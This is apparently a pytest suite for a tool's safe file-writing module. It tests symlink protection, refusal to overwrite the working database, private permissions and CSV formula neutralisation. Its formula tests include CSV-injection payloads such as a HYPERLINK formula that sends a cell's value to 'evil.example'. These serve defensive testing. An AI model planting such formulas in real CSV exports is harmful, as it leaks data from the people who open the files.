"""Files a command writes: never the working database, never through a link, never an
unrelated file without --force; private files private; CSV for people without formulas.

Every command that names a file to write (export -o, backup, publish, observe
--reject-file, pairs contacts --csv, demo) goes through :mod:`partnership.outfiles`.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

import partnership
from partnership import outfiles
from partnership.errors import AlreadyExists, PartnershipError


def file_digest(path: Path) -> str:
    import hashlib

    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def one_line_error(r) -> None:
    assert "Traceback" not in r.output
    assert r.exit_code == 1, (r.exit_code, r.output)
    assert r.stderr.startswith("Error:") and r.stderr.count("\n") == 1, r.stderr


def leftovers(folder: Path) -> list[str]:
    return sorted(f.name for f in folder.iterdir()
                  if "partnership-tmp" in f.name or f.name.endswith((".partial", ".publishing")))


@pytest.fixture
def demo(demo_path, run):
    run.db = demo_path
    return demo_path


@pytest.fixture
def victim(tmp_path) -> Path:
    """A file elsewhere that a planted link points at; it must never change."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    path = folder / "precious.txt"
    path.write_text("the only copy of my thesis\n")
    return path


def the_working_database_by_other_names(db: Path) -> list[Path]:
    link = db.with_name("link.db")
    link.symlink_to(db)
    hard = db.with_name("hard.db")
    os.link(db, hard)
    return [db, Path(os.path.relpath(db)), db.parent / "." / db.name, link, hard,
            Path(str(db) + "-wal"), Path(str(db) + "-shm"), Path(str(db) + "-journal")]


# -- 1. the working database, by any name -------------------------------------------------

@pytest.mark.parametrize("command", [
    ["export", "-o"],
    ["export", "--format", "csv", "--section", "partners", "-o"],
    ["backup"],
    ["backup", "--force"],
    ["publish", "--no-refresh"],
    ["publish", "--no-refresh", "--force"],
    ["export", "--force", "-o"],
    ["pairs", "contacts", "2026-03", "--force", "--csv"],
])
def test_no_command_writes_over_the_working_database(demo, run, command, monkeypatch):
    monkeypatch.chdir(demo.parent)
    names = the_working_database_by_other_names(demo)
    before = file_digest(demo)
    for name in names:
        r = run(*command, str(name))
        one_line_error(r)
        assert "working database" in r.stderr or "database itself" in r.stderr, (name, r.stderr)
        assert file_digest(demo) == before, name
    assert (demo.parent / "link.db").is_symlink()
    assert leftovers(demo.parent) == []


def test_demo_never_replaces_the_working_database(demo, run):
    before = file_digest(demo)
    for name in (demo, Path(str(demo) + "-wal")):
        r = run("demo", str(name), "--force")
        one_line_error(r)
        assert "working database" in r.stderr
    assert file_digest(demo) == before
    r = run("demo", str(demo.with_name("other.db")))
    assert r.exit_code == 0, r.output


# -- 3. links, planted temporary files, unrelated files ---------------------------------------

@pytest.mark.parametrize("command", [["backup"], ["export", "-o"]])
def test_a_planted_partial_link_is_never_followed(demo, run, tmp_path, victim, command):
    target = tmp_path / "out.file"
    planted = Path(str(target) + ".partial")
    planted.symlink_to(victim)
    r = run(*command, str(target))
    assert r.exit_code == 0, r.output
    assert victim.read_text() == "the only copy of my thesis\n"
    assert planted.is_symlink() and target.is_file() and not target.is_symlink()


@pytest.mark.parametrize("command", [["backup"], ["export", "-o"], ["publish", "--no-refresh"],
                                     ["pairs", "contacts", "2026-03", "--csv"]])
def test_a_link_at_the_target_is_not_written_through(demo, run, tmp_path, victim, command):
    link = tmp_path / "out.file"
    link.symlink_to(victim)
    dangling = tmp_path / "dangling.file"
    dangling.symlink_to(tmp_path / "nowhere")
    before = file_digest(demo)
    for target in (link, dangling):
        r = run(*command, str(target))
        one_line_error(r)
        assert "link" in r.stderr
    assert file_digest(demo) == before
    assert victim.read_text() == "the only copy of my thesis\n"
    assert not (tmp_path / "nowhere").exists()
    # --force replaces the link itself, never what it points at
    r = run(*command, str(link), "--force")
    assert r.exit_code == 0, r.output
    assert not link.is_symlink() and link.is_file()
    assert victim.read_text() == "the only copy of my thesis\n"


@pytest.mark.parametrize("command,own", [
    (["backup"], None),
    (["export", "-o"], None),
    (["export", "--format", "json", "-o"], None),
    (["export", "--format", "csv", "--section", "partners", "-o"], None),
    (["publish", "--no-refresh"], None),
])
def test_an_unrelated_file_needs_force_and_the_own_file_is_replaced(demo, run, tmp_path, command, own):
    target = tmp_path / "mine.file"
    target.write_text("my notes, not a partnership file\n")
    r = run(*command, str(target))
    one_line_error(r)
    assert "--force" in r.stderr
    assert target.read_text() == "my notes, not a partnership file\n"
    r = run(*command, str(target), "--force")
    assert r.exit_code == 0, r.output
    assert target.read_text(errors="replace") != "my notes, not a partnership file\n"
    # a file this command wrote is replaced without --force
    r = run(*command, str(target))
    assert r.exit_code == 0, r.output
    assert leftovers(tmp_path) == []


def test_backup_onto_the_wal_file_is_refused_and_says_nothing_false(demo, run):
    before = file_digest(demo)
    r = run("backup", str(demo) + "-wal")
    one_line_error(r)
    assert "backed up" not in r.output
    assert file_digest(demo) == before
    with partnership.open(demo) as p:
        assert p.partners.list()


def test_an_empty_file_is_not_unrelated(demo, run, tmp_path):
    target = tmp_path / "made-by-mktemp"
    target.touch()
    assert run("export", "-o", str(target)).exit_code == 0
    assert target.read_text().startswith("format: partnership/1")


def test_a_special_file_is_never_written(demo, run, tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    for force in ((), ("--force",)):
        r = run("export", "-o", str(fifo), *force)
        one_line_error(r)
        assert stat.S_ISFIFO(fifo.lstat().st_mode)


# -- 4. publish's metadata ----------------------------------------------------------------

def test_publish_refuses_to_replace_an_unrelated_metadata_file(demo, run, tmp_path):
    meta = tmp_path / "site.metadata.yml"
    meta.write_text("my datasette settings\n")
    before = file_digest(demo)
    r = run("publish", str(tmp_path / "site.db"), "--no-refresh")
    one_line_error(r)
    assert "site.metadata.yml" in r.stderr and "--force" in r.stderr
    assert meta.read_text() == "my datasette settings\n"
    assert not (tmp_path / "site.db").exists()
    assert file_digest(demo) == before
    assert run("publish", str(tmp_path / "site.db"), "--no-refresh", "--force").exit_code == 0
    assert meta.read_text().startswith("# Generated by 'partnership publish'")
    # its own metadata is replaced on the next publish
    assert run("publish", str(tmp_path / "site.db"), "--no-refresh").exit_code == 0
    assert leftovers(tmp_path) == []


def test_a_failed_metadata_write_leaves_no_temporary_file(demo, tmp_path, monkeypatch):
    from partnership.reporting.build import publish

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(yaml, "safe_dump", broken)
    monkeypatch.setattr(yaml, "dump", broken)
    with partnership.open(demo) as p:
        with pytest.raises(PartnershipError, match="No space left"):
            publish(p, tmp_path / "pub.db", refresh=False)
    assert leftovers(tmp_path) == []
    assert not (tmp_path / "pub.db").exists() and not (tmp_path / "pub.metadata.yml").exists()


def test_an_interrupted_write_leaves_no_temporary_file(tmp_path):
    def interrupted(f):
        f.write("half")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        outfiles.write_output(tmp_path / "out.txt", interrupted, private=True)
    assert list(tmp_path.iterdir()) == []


def test_abandoned_temporary_files_of_a_dead_writer_are_removed(demo, run, tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    gone = [tmp_path / f".out.yaml.partnership-tmp-{dead.pid}-abcd",
            tmp_path / f".pub.metadata.yml.partnership-tmp-{dead.pid}-abcd",
            tmp_path / f".pub.db.partnership-tmp-{dead.pid}-abcd",
            tmp_path / f".pub.db.partnership-tmp-{dead.pid}-abcd-journal"]
    alive = tmp_path / ".out.yaml.partnership-tmp-1-abcd"  # pid 1 is always running
    other = tmp_path / f".other.yaml.partnership-tmp-{dead.pid}-abcd"
    for f in (*gone, alive, other):
        f.write_text("half")
    assert run("export", "-o", str(tmp_path / "out.yaml")).exit_code == 0
    assert run("publish", str(tmp_path / "pub.db"), "--no-refresh").exit_code == 0
    assert [f for f in gone if f.exists()] == []
    assert alive.exists() and other.exists()


# -- private permissions -------------------------------------------------------------------

def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_files_holding_private_data_are_readable_only_by_their_owner(demo, run, tmp_path):
    old = os.umask(0o022)
    try:
        assert run("export", "-o", str(tmp_path / "all.yaml")).exit_code == 0
        assert run("backup", str(tmp_path / "b.db")).exit_code == 0
        assert run("pairs", "contacts", "2026-03", "--csv", str(tmp_path / "c.csv")).exit_code == 0
        bad = tmp_path / "obs.csv"
        bad.write_text("indicator,date,value\nnope,2025-01-01,1\n")
        assert run("observe", "--csv", str(bad), "--skip-bad").exit_code == 0
        for name in ("all.yaml", "b.db", "c.csv", "obs.rejected.csv"):
            assert mode(tmp_path / name) == 0o600, name
        assert run("export", "--no-private", "-o", str(tmp_path / "open.yaml")).exit_code == 0
        assert run("publish", str(tmp_path / "pub.db"), "--no-refresh").exit_code == 0
        for name in ("open.yaml", "pub.db", "pub.metadata.yml"):
            assert mode(tmp_path / name) == 0o644, name
    finally:
        os.umask(old)


# -- 5. reject files ----------------------------------------------------------------------------

def observations_csv(path: Path, good: int = 3000) -> Path:
    lines = ["indicator,date,value"]
    lines += [f"repeat-victims,{1000 + i:04d}-01-01,{i}" for i in range(good)]
    lines += ["nope,2025-01-01,1"]
    path.write_text("\n".join(lines) + "\n")
    return path


def test_a_reject_file_is_never_the_database_nor_the_input(demo, run, tmp_path):
    source = observations_csv(tmp_path / "obs.csv")
    source_before = file_digest(source)
    before = file_digest(demo)
    for target in (demo, Path(str(demo) + "-wal"), source):
        r = run("observe", "--csv", str(source), "--skip-bad", "--reject-file", str(target), "--force")
        one_line_error(r)
        assert file_digest(demo) == before
        assert file_digest(source) == source_before
    with partnership.open(demo) as p:
        assert len(p.measure.series("repeat-victims")) < 100  # nothing imported


@pytest.mark.parametrize("where", ["missing-folder", "folder"])
def test_a_reject_file_that_cannot_be_written_is_one_line_and_nothing_is_imported(
        demo, run, tmp_path, where):
    source = observations_csv(tmp_path / "obs.csv", good=5)
    (tmp_path / "folder").mkdir()
    target = {"missing-folder": tmp_path / "nope" / "r.csv", "folder": tmp_path / "folder"}[where]
    before = file_digest(demo)
    r = run("observe", "--csv", str(source), "--skip-bad", "--reject-file", str(target))
    one_line_error(r)
    assert file_digest(demo) == before


def test_a_reject_file_replaces_only_an_earlier_reject_file(demo, run, tmp_path):
    source = observations_csv(tmp_path / "obs.csv", good=2)
    notes = tmp_path / "notes.csv"
    notes.write_text("name,phone\nann,123\n")
    before = file_digest(demo)
    r = run("observe", "--csv", str(source), "--skip-bad", "--reject-file", str(notes))
    one_line_error(r)
    assert "--force" in r.stderr and notes.read_text() == "name,phone\nann,123\n"
    assert file_digest(demo) == before
    r = run("observe", "--csv", str(source), "--skip-bad")
    assert r.exit_code == 0 and "obs.rejected.csv" in r.stderr
    # the next import replaces its own reject file
    r = run("observe", "--csv", str(source), "--skip-bad", "--replace")
    assert r.exit_code == 0, r.output
    assert leftovers(tmp_path) == []


def test_export_to_a_missing_folder_is_one_line(demo, run, tmp_path):
    for target in (tmp_path / "nope" / "x.yaml", tmp_path / "f" / "x.yaml"):
        if target.parent.name == "f":
            target.parent.write_text("a file, not a folder")
        r = run("export", "-o", str(target))
        one_line_error(r)


def test_contacts_keep_refusing_any_existing_file_without_force(demo, run, tmp_path):
    out = tmp_path / "c.csv"
    assert run("pairs", "contacts", "2026-03", "--csv", str(out)).exit_code == 0
    r = run("pairs", "contacts", "2026-03", "--csv", str(out))
    one_line_error(r)
    assert "--force" in r.stderr
    assert run("pairs", "contacts", "2026-03", "--csv", str(out), "--force").exit_code == 0
    with partnership.open(demo) as p, pytest.raises(AlreadyExists):
        p.pairs.write_contacts_csv("2026-03", out)


# -- 12. formulas in CSV -------------------------------------------------------------------------

@pytest.mark.parametrize("cell,shown", [
    ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
    ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'=1", "''=1"), ("''@x", "'''@x"),
    ("-3", "-3"), ("-0.5", "-0.5"), ("+2", "+2"), ("-1e5", "-1e5"), ("plain", "plain"),
    ("'quoted'", "'quoted'"), ("", ""), (-3, -3), (None, None), ("a=b", "a=b"),
])
def test_cells_for_people_are_neutralised_and_restored(cell, shown):
    assert outfiles.for_people(cell) == shown
    if isinstance(cell, str):
        assert outfiles.from_people(shown) == cell


def test_no_csv_output_carries_a_live_formula(demo, run, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    r = run("commit", "county-police", evil, "--due", "2031-01-01")
    assert r.exit_code == 0, r.output
    with partnership.open(demo) as p:
        p.people.update("sam-lee", name="@SUM(1+1)")
    listed = list(csv.reader(io.StringIO(run("commitments", "--csv").stdout)))
    cells = [c for row in listed for c in row]
    exported = tmp_path / "commitments.csv"
    assert run("export", "--format", "csv", "--section", "commitments", "-o", str(exported)).exit_code == 0
    contacts = tmp_path / "c.csv"
    assert run("pairs", "contacts", "2026-03", "--csv", str(contacts)).exit_code == 0
    people = run("export", "--format", "csv", "--section", "people").stdout
    for text in (exported.read_text(), contacts.read_text(), people):
        cells += [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + evil in cells and "'@SUM(1+1)" in cells
    live = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
            or (c.startswith("-") and not c.lstrip("-").replace(".", "", 1).isdigit())]
    assert live == []
    # export -> import gives back the same text
    people_csv = tmp_path / "people.csv"
    people_csv.write_text(people)
    with partnership.open(demo) as p:
        p.people.update("sam-lee", name="Sam Lee")
    assert run("import", str(people_csv)).exit_code == 0
    with partnership.open(demo) as p:
        assert p.people.get("sam-lee").name == "@SUM(1+1)"


def test_numbers_stay_numbers_in_csv():
    out = io.StringIO()
    writer = outfiles.csv_writer_for_people(out, fieldnames=["a", "b", "c"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"a": -3, "b": "-0.5", "c": "-x"})
    assert out.getvalue() == "a,b,c\n-3,-0.5,'-x\n"


# -- the library -----------------------------------------------------------------------------------

def test_protected_paths_name_the_database_and_its_companions(tmp_path):
    db = tmp_path / "w.db"
    names = {Path(p).name for p, _ in outfiles.protected_paths(db)}
    assert names == {"w.db", "w.db-wal", "w.db-shm", "w.db-journal"}


def test_write_output_makes_a_new_private_file(tmp_path):
    out = outfiles.write_output(tmp_path / "x.txt", "hello\n", private=True)
    assert out.read_text() == "hello\n" and mode(out) == 0o600
    with pytest.raises(AlreadyExists):
        outfiles.write_output(out, b"again", private=True)
    outfiles.write_output(out, b"again", private=True, force=True)
    assert out.read_bytes() == b"again"
    assert list(tmp_path.iterdir()) == [out]


def test_a_target_whose_companion_is_the_working_database_is_refused(tmp_path):
    working = tmp_path / "p.db-wal"  # an odd name for a working database, but a possible one
    with pytest.raises(outfiles.OutputFileError, match="its -wal file would be the working database"):
        outfiles.check_target(tmp_path / "p.db", protect=outfiles.protected_paths(working), sqlite=True)
